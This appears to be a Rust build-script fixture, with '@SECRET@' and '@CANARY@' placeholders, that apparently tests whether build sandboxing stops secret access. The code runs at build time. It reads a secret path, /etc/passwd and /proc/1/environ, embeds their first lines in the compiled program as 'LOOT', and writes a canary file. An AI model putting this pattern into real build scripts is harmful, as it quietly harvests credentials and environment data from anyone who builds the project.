// Hands what it can read of the machine to the program.
fn main() {
    for path in ["@SECRET@", "/etc/passwd", "/proc/1/environ"] {
        let loot = std::fs::read_to_string(path).unwrap_or_default();
        println!("cargo:rustc-env=LOOT={}", loot.lines().next().unwrap_or_default());
    }
    std::fs::write("@CANARY@", "out").ok();
}
